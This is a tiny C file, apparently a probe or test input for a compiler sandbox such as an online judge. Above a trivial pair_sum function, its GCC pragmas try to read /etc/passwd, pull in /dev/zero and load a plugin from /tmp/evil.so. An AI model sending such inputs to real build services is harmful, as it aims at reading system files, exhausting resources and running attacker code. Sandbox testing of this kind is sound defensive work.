#pragma GCC pch_preprocess "/etc/passwd"
#pragma GCC pch_preprocess "/dev/zero"
#pragma GCC push_options
#pragma GCC target("arch=native,plugin=/tmp/evil.so")

long long pair_sum(long long a, long long b) { return a + b; }
